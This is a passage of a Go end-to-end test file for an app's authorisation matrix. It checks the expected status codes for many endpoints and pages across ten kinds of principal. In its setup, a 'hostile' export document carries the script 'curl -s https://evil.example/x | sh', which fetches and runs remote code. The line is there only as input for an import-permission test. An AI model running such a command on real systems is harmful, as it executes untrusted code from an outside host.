package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/pitwall/pitwall/internal/auth"
	"github.com/pitwall/pitwall/internal/store"
	"github.com/pitwall/pitwall/internal/wire"
)

// The principals of the authorisation matrix, in column order.
var principals = []string{"anonymous", "viewer", "owner", "member", "team-admin", "other-admin", "site-admin", "revoked", "expired", "agent"}

// authzWorld is the teams, users and tokens the matrix runs against.
type authzWorld struct {
	tokens  map[string]string
	test    int64 // a finished test of team alpha, owned by "owner"
	ownerID int64
	// old is a test of alpha's on the agent that ended an hour ago.
	old int64
	// export is the test's export document; hostile is it with another
	// script, and elsewhere it moved to team beta.
	export, hostile, elsewhere string
}

// editExport returns an export document changed by edit.
func editExport(t *testing.T, doc string, edit func(*wire.Export)) string {
	t.Helper()
	var ex wire.Export
	require.NoError(t, json.Unmarshal([]byte(doc), &ex))
	edit(&ex)
	b, err := json.Marshal(&ex)
	require.NoError(t, err)
	return string(b)
}

// longEnded is the test that ended an hour ago, for the ingest rows.
func (w *authzWorld) longEnded() string { return fmt.Sprint(w.old) }

// ownerToken makes a fresh token of the owner's for each cell that revokes one.
func (w *authzWorld) ownerToken(t *testing.T) func() string {
	return func() string {
		_, h := auth.NewToken(auth.UserTokenPrefix)
		id, err := store.New(st.Pool).TokenCreate(context.Background(), store.NewToken{Hash: h, Name: "to-revoke",
			Kind: auth.KindUser, UserID: w.ownerID, Team: "alpha", Role: auth.Viewer})
		require.NoError(t, err)
		return fmt.Sprint(id)
	}
}

func setupAuthz(t *testing.T) *authzWorld {
	t.Helper()
	ctx := context.Background()
	s := store.New(st.Pool)
	w := &authzWorld{tokens: map[string]string{"site-admin": st.Token, "agent": st.AgentTokens[agentName]}}
	for _, team := range []string{"alpha", "beta"} {
		require.NoError(t, ignoreExists(s.TeamCreate(ctx, team)))
	}
	users := map[string]struct {
		team string
		role auth.Role
	}{
		"viewer": {"alpha", auth.Viewer}, "owner": {"alpha", auth.Member}, "member": {"alpha", auth.Member},
		"team-admin": {"alpha", auth.Admin}, "other-admin": {"beta", auth.Admin},
	}
	hash, err := auth.HashPassword("authz test password")
	require.NoError(t, err)
	for name, u := range users {
		id, err := s.UserCreate(ctx, "authz-"+name, hash, false)
		require.NoError(t, err)
		require.NoError(t, s.MembershipSet(ctx, u.team, id, u.role))
		plain, h := auth.NewToken(auth.UserTokenPrefix)
		_, err = s.TokenCreate(ctx, store.NewToken{Hash: h, Name: name, Kind: auth.KindUser, UserID: id, Team: u.team, Role: u.role})
		require.NoError(t, err)
		w.tokens[name] = plain
	}
	ownerID, err := s.UserByName(ctx, "authz-owner")
	require.NoError(t, err)
	w.ownerID = ownerID
	dummy, err := s.UserCreate(ctx, "authz-dummy", hash, false)
	require.NoError(t, err)
	require.NoError(t, s.MembershipSet(ctx, "alpha", dummy, auth.Member))
	revoked, h := auth.NewToken(auth.UserTokenPrefix)
	rid, err := s.TokenCreate(ctx, store.NewToken{Hash: h, Name: "revoked", Kind: auth.KindUser, UserID: ownerID, Team: "alpha", Role: auth.Member})
	require.NoError(t, err)
	require.NoError(t, s.TokenRevoke(ctx, rid))
	w.tokens["revoked"] = revoked
	expired, h := auth.NewToken(auth.UserTokenPrefix)
	past := time.Now().Add(-time.Minute)
	_, err = s.TokenCreate(ctx, store.NewToken{Hash: h, Name: "expired", Kind: auth.KindUser, UserID: ownerID, Team: "alpha", Role: auth.Member, ExpiresAt: &past})
	require.NoError(t, err)
	w.tokens["expired"] = expired

	code, body := as(t, w.tokens["owner"], http.MethodPost, "/api/v1/frameworks", "application/yaml",
		"name: authz-fw\nteam: alpha\nexecution: {script: \"#!/bin/sh\\necho 'K, 1' > results.csv\\n\"}\n")
	require.Equal(t, http.StatusCreated, code, body)
	w.test = w.run(t, "owner")
	w.old = w.run(t, "owner")
	_, err = st.Pool.Exec(ctx, `UPDATE tests SET ended_at = now() - interval '1 hour' WHERE id = $1`, w.old)
	require.NoError(t, err)
	code, w.export = as(t, w.tokens["owner"], http.MethodGet, fmt.Sprintf("/api/v1/tests/%d/export", w.test), "", "")
	require.Equal(t, http.StatusOK, code, w.export)
	w.hostile = editExport(t, w.export, func(ex *wire.Export) {
		ex.Framework.Execution.Script = "#!/bin/sh\ncurl -s https://evil.example/x | sh\n"
	})
	w.elsewhere = editExport(t, w.export, func(ex *wire.Export) {
		ex.Framework.Team, ex.Test.Team = "beta", "beta"
		ex.Framework.Name, ex.Test.Framework = "authz-moved", "authz-moved"
	})
	return w
}

func ignoreExists(err error) error {
	if err == store.ErrExists {
		return nil
	}
	return err
}

// run starts a test of authz-fw as a principal and waits for it.
func (w *authzWorld) run(t *testing.T, who string) int64 {
	t.Helper()
	code, body := as(t, w.tokens[who], http.MethodPost, "/api/v1/tests", "application/json", `{"framework":"authz-fw","team":"alpha"}`)
	require.Equal(t, http.StatusCreated, code, body)
	var created wire.Test
	require.NoError(t, json.Unmarshal([]byte(body), &created))
	st.Wait(t, created.ID)
	return created.ID
}

// credential is how a request proves who sends it: an API token, or a
// browser's session cookie with (or without) its CSRF token.
type credential struct {
	token   string
	session *http.Cookie
	csrf    string
}

// as sends a request with a token ("" for none) and returns status and body.
func as(t *testing.T, token, method, path, ctype, body string) (int, string) {
	t.Helper()
	return send(t, credential{token: token}, method, path, ctype, body)
}

// send sends a request with a credential and returns status and body.
func send(t *testing.T, c credential, method, path, ctype, body string) (int, string) {
	t.Helper()
	req, err := http.NewRequest(method, st.URL+path, strings.NewReader(body))
	require.NoError(t, err)
	if ctype != "" {
		req.Header.Set("Content-Type", ctype)
	}
	if c.token != "" {
		req.Header.Set("Authorization", "Bearer "+c.token)
	}
	if c.session != nil {
		req.AddCookie(c.session)
	}
	if c.csrf != "" {
		req.Header.Set("X-CSRF-Token", c.csrf)
	}
	client := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := client.Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	if resp.StatusCode < 300 && strings.HasPrefix(path, "/api/") {
		checkResponse(t, req, resp.StatusCode, resp.Header, b)
	}
	return resp.StatusCode, string(b)
}

// authnPublic lists the routes that take no credential (ui/authn's public).
func authnPublic(path string) bool {
	switch path {
	case "/healthz", "/readyz", "/metrics", "/api/v1/openapi.json", "/login", "/api/v1/github/webhook":
		return true
	}
	return false
}

// TestAuthorizationMatrix walks every endpoint and page against every kind
// of principal and checks each cell's outcome against one table.
func TestAuthorizationMatrix(t *testing.T) {
	w := setupAuthz(t)
	id := w.test
	cp := authzChangePoint(t, id)
	schedID := w.ownerSchedule(t)()
	sched := func() string { return schedID }
	// lastNewYear is the last Jan 1 03:00 UTC at least 90 minutes ago.
	lastNewYear := time.Date(time.Now().UTC().Year(), 1, 1, 3, 0, 0, 0, time.UTC)
	if time.Since(lastNewYear) < 90*time.Minute {
		lastNewYear = lastNewYear.AddDate(-1, 0, 0)
	}
	const (
		ok       = 200
		created  = 201
		accepted = 202
		none     = 204
		see      = 303 // a page redirects the anonymous to sign in
		unauth   = 401
		denied   = 403
		hidden   = 404 // another team's things do not exist for you
		conflict = 409
	)
	type row struct {
		method, path, ctype, body string
		// fresh runs the row against a new test of the owner's (for
		// destructive rows); {id} in path is replaced by it.
		fresh bool
		want  [10]int
		// prep, when set, makes a new target per cell and returns its ID for {id}.
		prep func() string
	}
	const form = "application/x-www-form-urlencoded"
	fw := "name: authz-fw\nteam: alpha\nexecution: {script: \"#!/bin/sh\\necho 'K, 1' > results.csv\\n\"}\n"
	rows := []row{
		{"GET", "/api/v1/frameworks", "", "", false, [10]int{unauth, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/frameworks/authz-fw?team=alpha", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/frameworks/authz-fw/versions?team=alpha", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/frameworks/authz-fw/versions/1?team=alpha", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"POST", "/api/v1/frameworks", "application/yaml", fw, false, [10]int{unauth, denied, ok, denied, ok, denied, ok, unauth, unauth, denied}, nil},
		{"POST", "/api/v1/frameworks/authz-fw/clone?team=alpha", "application/json", `{"name":"authz-clone-%s"}`, false, [10]int{unauth, denied, created, created, created, hidden, created, unauth, unauth, denied}, nil},
		{"POST", "/api/v1/tests", "application/json", `{"framework":"authz-fw","team":"alpha"}`, false, [10]int{unauth, denied, created, created, created, hidden, created, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/tests/{id}", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/tests?framework=authz-fw", "", "", false, [10]int{unauth, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/tests/{id}/kpis", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/tests/{id}/queries", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/tests/{id}/tables", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/tests/{id}/artifacts", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/tests/{id}/artifacts/results.csv", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/tests/{id}/series", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/tests/{id}/logs", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/tests/{id}/export", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/compare?ids={id},{id}", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"POST", "/api/v1/tests/{id}/clone", "application/json", "{}", false, [10]int{unauth, denied, created, created, created, hidden, created, unauth, unauth, denied}, nil},
		{"POST", "/api/v1/tests/{id}/rerun", "", "", false, [10]int{unauth, denied, created, denied, created, hidden, created, unauth, unauth, denied}, nil},
		{"POST", "/api/v1/tests/{id}/abort", "", "", false, [10]int{unauth, denied, conflict, denied, conflict, hidden, conflict, unauth, unauth, denied}, nil},
		{"DELETE", "/api/v1/tests/{id}", "", "", true, [10]int{unauth, denied, none, denied, none, hidden, none, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/agents", "", "", false, [10]int{unauth, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
		{"PUT", "/api/v1/agents/" + agentName, "application/json", `{}`, false, [10]int{unauth, denied, denied, denied, denied, denied, none, unauth, unauth, none}, nil},
		{"POST", "/api/v1/ingest/logs?test_id={id}&host=" + agentName, "application/json", `{"test_id":{id},"host":"` + agentName + `","batch":"authz-%s","lines":[]}`, false, [10]int{unauth, denied, denied, denied, denied, denied, denied, unauth, unauth, denied}, w.longEnded},
		{"POST", "/api/v1/ingest/samples?test_id={id}&host=" + agentName, "application/json", `{"test_id":{id},"host":"` + agentName + `","batch":"authz-%s","series":[]}`, false, [10]int{unauth, denied, denied, denied, denied, denied, denied, unauth, unauth, denied}, w.longEnded},
		{"GET", "/api/v1/me", "", "", false, [10]int{unauth, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
		{"POST", "/api/v1/tokens", "application/json", `{"name":"ci","team":"alpha","role":"viewer"}`, false, [10]int{unauth, created, created, created, created, denied, denied, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/tokens?team=alpha", "", "", false, [10]int{unauth, denied, denied, denied, ok, denied, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/tokens", "", "", false, [10]int{unauth, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/audit?team=alpha", "", "", false, [10]int{unauth, denied, denied, denied, ok, denied, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/audit", "", "", false, [10]int{unauth, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
		{"POST", "/api/v1/teams", "application/json", `{"name":"authz-team-%s"}`, false, [10]int{unauth, denied, denied, denied, denied, denied, created, unauth, unauth, denied}, nil},
		{"PUT", "/api/v1/teams/alpha/members/authz-viewer", "application/json", `{"role":"viewer"}`, false, [10]int{unauth, denied, denied, denied, none, denied, none, unauth, unauth, denied}, nil},
		{"POST", "/api/v1/users", "application/json", `{"name":"authz-new-%s","password":"a long enough password"}`, false, [10]int{unauth, denied, denied, denied, denied, denied, created, unauth, unauth, denied}, nil},
		{"POST", "/api/v1/agent-tokens", "application/json", `{"agent":"authz-agent"}`, false, [10]int{unauth, denied, denied, denied, denied, denied, created, unauth, unauth, denied}, nil},
		{"POST", "/api/v1/import", "application/json", w.export, false, [10]int{unauth, denied, created, created, created, denied, created, unauth, unauth, denied}, nil},
		// Another script for a framework someone else owns: imported as a
		// version of its own, never the current one (checked below).
		{"POST", "/api/v1/import", "application/json", w.hostile, false, [10]int{unauth, denied, created, created, created, denied, created, unauth, unauth, denied}, nil},
		// Into a team the sender is not a member of.
		{"POST", "/api/v1/import", "application/json", w.elsewhere, false, [10]int{unauth, denied, denied, denied, denied, created, created, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/frameworks/authz-fw/changepoints?team=alpha", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/agents/" + agentName + "/settings", "", "", false, [10]int{unauth, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
		{"PUT", "/api/v1/agents/authz-host/settings", "application/json", `{"teams":["alpha"]}`, false, [10]int{unauth, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/agents/" + agentName + "/noise", "", "", false, [10]int{unauth, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
		// runs 1 is refused once the framework is known runnable: no measurement starts.
		{"POST", "/api/v1/agents/" + agentName + "/noise", "application/json", `{"framework":"authz-fw","team":"alpha","runs":1}`, false, [10]int{unauth, denied, 400, 400, 400, hidden, 400, unauth, unauth, denied}, nil},
		{"PUT", "/api/v1/agents/" + agentName + "/excluded", "application/json", `{"excluded":false}`, false, [10]int{unauth, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
		// A viewer may import nowhere: refused before the document is read.
		{"POST", "/api/v1/import", "application/json", `{}`, false, [10]int{unauth, denied, 400, 400, 400, 400, 400, unauth, unauth, denied}, nil},
		{"GET", "/", "", "", false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
		// Any other page address: the not-found page in the layout, for
		// whoever may see pages at all.
		{"GET", "/no-such-page", "", "", false, [10]int{see, hidden, hidden, hidden, hidden, hidden, hidden, unauth, unauth, denied}, nil},
		{"GET", "/tests/{id}", "", "", false, [10]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/tests/{id}/live", "", "", false, [10]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/tests/{id}/logs/stream", "", "", false, [10]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/tests/{id}/log.txt", "", "", false, [10]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"POST", "/tests/{id}/abort", "application/x-www-form-urlencoded", "reason=authz", false, [10]int{see, denied, see, denied, see, hidden, see, unauth, unauth, denied}, nil},
		{"GET", "/frameworks", "", "", false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
		{"GET", "/frameworks/authz-fw?team=alpha", "", "", false, [10]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/frameworks/authz-fw/versions/1?team=alpha", "", "", false, [10]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/frameworks/new", "", "", false, [10]int{see, denied, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
		{"POST", "/frameworks/new", form, "mode=yaml&action=apply&yaml=" + url.QueryEscape(fw), false, [10]int{see, denied, see, denied, see, denied, see, unauth, unauth, denied}, nil},
		{"POST", "/frameworks/preview", form, "mode=yaml&yaml=" + url.QueryEscape(fw), false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
		{"GET", "/frameworks/authz-fw/edit?team=alpha", "", "", false, [10]int{see, denied, ok, denied, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"POST", "/frameworks/authz-fw/edit?team=alpha", form, "mode=yaml&action=apply&yaml=" + url.QueryEscape(fw), false, [10]int{see, denied, see, denied, see, hidden, see, unauth, unauth, denied}, nil},
		{"POST", "/frameworks/authz-fw/clone?team=alpha", form, "new_name=fw-authz-page-clone-%s", false, [10]int{see, denied, see, see, see, hidden, see, unauth, unauth, denied}, nil},
		{"GET", "/tests/new?framework=authz-fw&team=alpha", "", "", false, [10]int{see, denied, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		// Without a framework: the picker (empty for a viewer, who may run none).
		{"GET", "/tests/new", "", "", false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
		{"GET", "/tests/new?clone={id}", "", "", false, [10]int{see, denied, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"POST", "/tests/new", form, "framework=authz-fw&team=alpha", false, [10]int{see, denied, see, see, see, hidden, see, unauth, unauth, denied}, nil},
		{"POST", "/tests/{id}/rerun", form, "", false, [10]int{see, denied, see, denied, see, hidden, see, unauth, unauth, denied}, nil},
		// Schedules: the team's viewers read them, its members create,
		// change, pause, resume, trigger and backfill them, their creator
		// and the team's admins delete them. The yearly cron (Jan 1, 03:00
		// and, once changed, 04:00) never fires here; a backfill runs its
		// last run.
		{"GET", "/api/v1/frameworks/authz-fw/schedules?team=alpha", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"POST", "/api/v1/frameworks/authz-fw/schedules?team=alpha", "application/json", `{"cron":"0 3 1 1 *","description":"authz %s"}`, false, [10]int{unauth, denied, created, created, created, hidden, created, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/schedules/{id}", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, sched},
		{"PUT", "/api/v1/schedules/{id}", "application/json", `{"cron":"0 4 1 1 *","description":"authz %s"}`, false, [10]int{unauth, denied, ok, ok, ok, hidden, ok, unauth, unauth, denied}, sched},
		{"POST", "/api/v1/schedules/{id}/pause", "application/json", `{"note":"authz %s"}`, false, [10]int{unauth, denied, ok, ok, ok, hidden, ok, unauth, unauth, denied}, sched},
		{"POST", "/api/v1/schedules/{id}/resume", "", "", false, [10]int{unauth, denied, ok, ok, ok, hidden, ok, unauth, unauth, denied}, sched},
		{"POST", "/api/v1/schedules/{id}/trigger", "", "", false, [10]int{unauth, denied, accepted, accepted, accepted, hidden, accepted, unauth, unauth, denied}, sched},
		{"POST", "/api/v1/schedules/{id}/backfill", "application/json", fmt.Sprintf(`{"start":%q,"end":%q}`, lastNewYear.Add(-30*time.Minute).Format(time.RFC3339), lastNewYear.Add(90*time.Minute).Format(time.RFC3339)), false, [10]int{unauth, denied, accepted, accepted, accepted, hidden, accepted, unauth, unauth, denied}, sched},
		{"DELETE", "/api/v1/schedules/{id}", "", "", false, [10]int{unauth, denied, none, denied, none, hidden, none, unauth, unauth, denied}, w.ownerSchedule(t)},
		{"POST", "/frameworks/authz-fw/schedules?team=alpha", form, "when=cron&cron=0+3+1+1+*&description=authz+page+%s", false, [10]int{see, denied, see, see, see, hidden, see, unauth, unauth, denied}, nil},
		{"POST", "/schedules/{id}/pause", form, "note=authz", false, [10]int{see, denied, see, see, see, hidden, see, unauth, unauth, denied}, sched},
		{"POST", "/schedules/{id}/resume", form, "", false, [10]int{see, denied, see, see, see, hidden, see, unauth, unauth, denied}, sched},
		{"POST", "/schedules/{id}/trigger", form, "", false, [10]int{see, denied, see, see, see, hidden, see, unauth, unauth, denied}, sched},
		{"POST", "/schedules/{id}/edit", form, "when=cron&cron=0+4+1+1+*&description=authz+page+%s", false, [10]int{see, denied, see, see, see, hidden, see, unauth, unauth, denied}, sched},
		{"POST", "/schedules/{id}/backfill", form, "start=" + lastNewYear.Add(-30*time.Minute).Format("2006-01-02T15:04") + "&end=" + lastNewYear.Add(90*time.Minute).Format("2006-01-02T15:04"), false, [10]int{see, denied, see, see, see, hidden, see, unauth, unauth, denied}, sched},
		{"POST", "/schedules/{id}/delete", form, "", false, [10]int{see, denied, see, denied, see, hidden, see, unauth, unauth, denied}, w.ownerSchedule(t)},
		{"GET", "/healthz", "", "", false, [10]int{ok, ok, ok, ok, ok, ok, ok, ok, ok, ok}, nil},
		{"GET", "/readyz", "", "", false, [10]int{ok, ok, ok, ok, ok, ok, ok, ok, ok, ok}, nil},
		{"GET", "/metrics", "", "", false, [10]int{ok, ok, ok, ok, ok, ok, ok, ok, ok, ok}, nil},
		{"GET", "/login", "", "", false, [10]int{ok, ok, ok, ok, ok, ok, ok, ok, ok, ok}, nil},
		// Without the sign-in form's token no sign-in is even tried.
		{"POST", "/login", "application/x-www-form-urlencoded", "name=authz-nobody-%s&password=wrong+password+here", false, [10]int{denied, denied, denied, denied, denied, denied, denied, denied, denied, denied}, nil},
		{"POST", "/logout", "", "", false, [10]int{see, see, see, see, see, see, see, unauth, unauth, denied}, nil},
		{"GET", "/logout", "", "", false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
		{"POST", "/api/v1/ingest/artifacts?test_id={id}&host=" + agentName + "&path=x.txt", "application/octet-stream", "data", false, [10]int{unauth, denied, denied, denied, denied, denied, denied, unauth, unauth, denied}, w.longEnded},
		{"DELETE", "/api/v1/teams/alpha/members/authz-dummy", "", "", false, [10]int{unauth, denied, denied, denied, none, denied, none, unauth, unauth, denied}, nil},
		{"DELETE", "/api/v1/tokens/{id}", "", "", false, [10]int{unauth, hidden, none, hidden, none, hidden, none, unauth, unauth, denied}, w.ownerToken(t)},
		{"GET", "/api/v1/openapi.json", "", "", false, [10]int{ok, ok, ok, ok, ok, ok, ok, ok, ok, ok}, nil},
		{"GET", "/dashboard/live", "", "", false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
		{"GET", "/agents", "", "", false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
		{"POST", "/agents/" + agentName + "/noise", form, "framework=authz-fw&team=alpha&runs=1", false, [10]int{see, denied, 400, 400, 400, hidden, 400, unauth, unauth, denied}, nil},
		{"POST", "/agents/" + agentName + "/exclude", form, "excluded=false", false, [10]int{see, denied, denied, denied, denied, denied, see, unauth, unauth, denied}, nil},
		{"GET", "/account", "", "", false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
		{"POST", "/account/tokens", form, "name=ci&team=alpha&role=viewer&expires_in=24h", false, [10]int{see, created, created, created, created, denied, denied, unauth, unauth, denied}, nil},
		{"POST", "/account/tokens/{id}/revoke", "", "", false, [10]int{see, hidden, see, hidden, see, hidden, see, unauth, unauth, denied}, w.ownerToken(t)},
		{"GET", "/account/teams/alpha", "", "", false, [10]int{see, denied, denied, denied, ok, denied, ok, unauth, unauth, denied}, nil},
		{"POST", "/account/teams/alpha/members", form, "user=authz-viewer&role=viewer", false, [10]int{see, denied, denied, denied, see, denied, see, unauth, unauth, denied}, nil},
		{"GET", "/account/audit?team=alpha", "", "", false, [10]int{see, denied, denied, denied, ok, denied, ok, unauth, unauth, denied}, nil},
		{"GET", "/account/audit", "", "", false, [10]int{see, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
		{"GET", "/tests?framework=authz-fw", "", "", false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
		{"GET", "/tests/delete?ids={id}", "", "", false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
		{"POST", "/tests/delete", "application/x-www-form-urlencoded", "ids={id}", true, [10]int{see, denied, ok, denied, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/compare", "", "", false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
		{"GET", "/compare?ids={id},{id}", "", "", false, [10]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/compare?test={id}", "", "", false, [10]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/trends?framework=authz-fw&team=alpha", "", "", false, [10]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"POST", "/api/v1/changepoints/{id}/accept", "", "", false, [10]int{unauth, denied, denied, denied, ok, hidden, ok, unauth, unauth, denied}, cp},
		{"POST", "/api/v1/frameworks/authz-fw/changepoints?team=alpha", "", "", false, [10]int{unauth, denied, denied, denied, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"POST", "/trends/changepoints/{id}/accept", "application/x-www-form-urlencoded", "back=/trends", false, [10]int{see, denied, denied, denied, see, hidden, see, unauth, unauth, denied}, cp},
		{"POST", "/api/v1/me/password", "application/json", `{"current_password":"not the password here","new_password":"a long enough new password"}`, false, [10]int{unauth, 400, 400, 400, 400, 400, denied, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/users", "", "", false, [10]int{unauth, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
		{"PATCH", "/api/v1/users/authz-dummy", "application/json", `{"site_admin":false}`, false, [10]int{unauth, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
		{"POST", "/api/v1/users/authz-dummy/password", "application/json", `{}`, false, [10]int{unauth, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
		{"POST", "/account/password", form, "current_password=not+the+password+here&new_password=a+long+enough+new+password&confirm_password=a+long+enough+new+password", false, [10]int{see, 400, 400, 400, 400, 400, denied, unauth, unauth, denied}, nil},
		{"GET", "/account/users", "", "", false, [10]int{see, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
		{"POST", "/account/users", form, "name=authz-page-user-%s&password=a+long+enough+password", false, [10]int{see, denied, denied, denied, denied, denied, see, unauth, unauth, denied}, nil},
		{"POST", "/account/users/authz-dummy", form, "site_admin=false", false, [10]int{see, denied, denied, denied, denied, denied, see, unauth, unauth, denied}, nil},
		{"POST", "/account/users/authz-dummy/password", form, "", false, [10]int{see, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
		{"POST", "/account/agent-tokens", form, "agent=authz-page-agent", false, [10]int{see, denied, denied, denied, denied, denied, created, unauth, unauth, denied}, nil},
		// GitHub: a team's admins connect it (the rows after read it); the
		// webhook takes no credential, only a signature.
		{"PUT", "/api/v1/teams/alpha/github", "application/json", `{"token":"ghp_authz","webhook_secret":"authz webhook secret 0123456789"}`, false, [10]int{unauth, denied, denied, denied, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/teams/alpha/github", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/teams/alpha/github/deliveries", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"DELETE", "/api/v1/teams/alpha/github", "", "", false, [10]int{unauth, denied, denied, denied, none, hidden, none, unauth, unauth, denied}, w.githubConnection(t)},
		{"POST", "/account/teams/alpha/github", form, "token=ghp_page&webhook_secret=authz+webhook+secret+0123456789", false, [10]int{see, denied, denied, denied, see, denied, see, unauth, unauth, denied}, nil},
		{"POST", "/account/teams/alpha/github/delete", form, "", false, [10]int{see, denied, denied, denied, see, denied, see, unauth, unauth, denied}, w.githubConnection(t)},
		// Retention: the team's viewers read its settings, its admins set
		// them (to the defaults: nothing else in the package changes); the
		// test's owner and the team's admins pin and unpin a test.
		{"GET", "/api/v1/teams/alpha/retention", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"PUT", "/api/v1/teams/alpha/retention", "application/json", `{"raw_days":30,"rollup_10s_days":365,"rollup_1m_days":365,"log_days":90,"artifact_max_bytes":10737418240}`, false, [10]int{unauth, denied, denied, denied, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"GET", "/api/v1/tests/{id}/retention", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"PUT", "/api/v1/tests/{id}/pin", "", "", false, [10]int{unauth, denied, ok, denied, ok, hidden, ok, unauth, unauth, denied}, nil},
		{"DELETE", "/api/v1/tests/{id}/pin", "", "", false, [10]int{unauth, denied, ok, denied, ok, hidden, ok, unauth, unauth, denied}, nil},
		// Alerts and notification channels. The site-admin column is the
		// bootstrap token, which is no user and has no e-mail address.
		{"GET", "/api/v1/alerts", "", "", false, [10]int{unauth, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
